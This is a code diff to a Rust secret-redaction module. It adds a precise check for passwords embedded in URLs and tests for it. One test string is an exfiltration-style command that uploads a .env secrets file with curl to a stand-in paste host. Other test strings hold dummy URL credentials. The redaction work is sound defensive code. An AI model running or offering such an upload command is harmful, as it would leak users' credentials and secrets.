@@ -74,7 +74,7 @@ const PATTERNS: &[(&[&str], &str)] = &[
     ),
     // Passwords in URLs: `https://user:pw@host`.
     (
-        &["://&@"],
+        &[URL_USERINFO],
         r"(?i)(\b[a-z][a-z0-9+.\-]*://[^/\s:@]+:)([^/\s@]+)(@)",
     ),
     // `--password VALUE`, `--passwd=VALUE`, `--passphrase VALUE` (not `--password-stdin`).
@@ -196,6 +196,9 @@ pub fn is_secret_key(key: &str) -> bool {
 /// matched case-sensitively, the others against the lowercased text; `a&b` needs both parts.
 fn gate_open(needles: &[&str], text: &str, lower: &str) -> bool {
     needles.iter().any(|n| {
+        if *n == URL_USERINFO {
+            return url_userinfo(text);
+        }
         n.split('&').all(|part| {
             let (word, after) = assignment(part);
             let hay = if word.bytes().any(|b| b.is_ascii_uppercase()) {
@@ -208,6 +211,25 @@ fn gate_open(needles: &[&str], text: &str, lower: &str) -> bool {
                 Some(name_tail) => assigned(hay, word, name_tail),
             }
         })
+    })
+}
+
+/// The gate of the URL-password pattern: a `user:password@` right after a `://`.
+const URL_USERINFO: &str = "://user:password@";
+
+/// Whether some `://` in `text` is followed, before the next `/` or white space, by a `:` and
+/// then an `@`: what a password in a URL needs. `://` and `@` anywhere opened the gate for
+/// every reason that named a URL and a file (`@.env`), and compiling the pattern was a fifth
+/// of such a call.
+fn url_userinfo(text: &str) -> bool {
+    text.match_indices("://").any(|(i, _)| {
+        let rest = &text[i + 3..];
+        let authority = &rest[..rest
+            .find(|c: char| c == '/' || c.is_whitespace())
+            .unwrap_or(rest.len())];
+        authority
+            .find(':')
+            .is_some_and(|colon| authority[colon..].contains('@'))
     })
 }
 
@@ -568,9 +590,38 @@ mod tests {
             "the keys: a, b",
             "token bucket: 3",
             "KEY_LIST:",
+            "git clone https://deploy:hunter2pass@git.example.com/r.git",
+            "HTTPS://U:P@HOST",
+            "redis://:s3cretpw@cache:6379/0",
+            "postgres://app:pa:ss@db/x and https://x.io/a@b",
+            "curl -u a:b https://x.io/p@q ftp://h:21@",
+            "https://x\u{2003}user:pw@h",
             "",
         ] {
             assert_eq!(redact_text(s), ungated(s), "{s:?}");
+        }
+        // A URL and an `@` elsewhere (a reason naming `curl … @.env https://…`) do not open
+        // the URL-password gate; a password in the URL does.
+        let url_gate = &PATTERNS
+            .iter()
+            .find(|(n, _)| n.contains(&URL_USERINFO))
+            .unwrap()
+            .0;
+        for (s, open) in [
+            (
+                "curl --data-binary @.env https://paste.example.net/up",
+                false,
+            ),
+            ("https://github.com/a/b@v1 and me@example.com", false),
+            ("ssh://git@github.com/a/b", false),
+            ("https://u:p@example.com/", true),
+            ("HTTPS://U:P@HOST", true),
+        ] {
+            assert_eq!(
+                gate_open(url_gate, s, &s.to_ascii_lowercase()),
+                open,
+                "{s:?}"
+            );
         }
         // What only mentions a key opens no assignment gate.
         for s in [
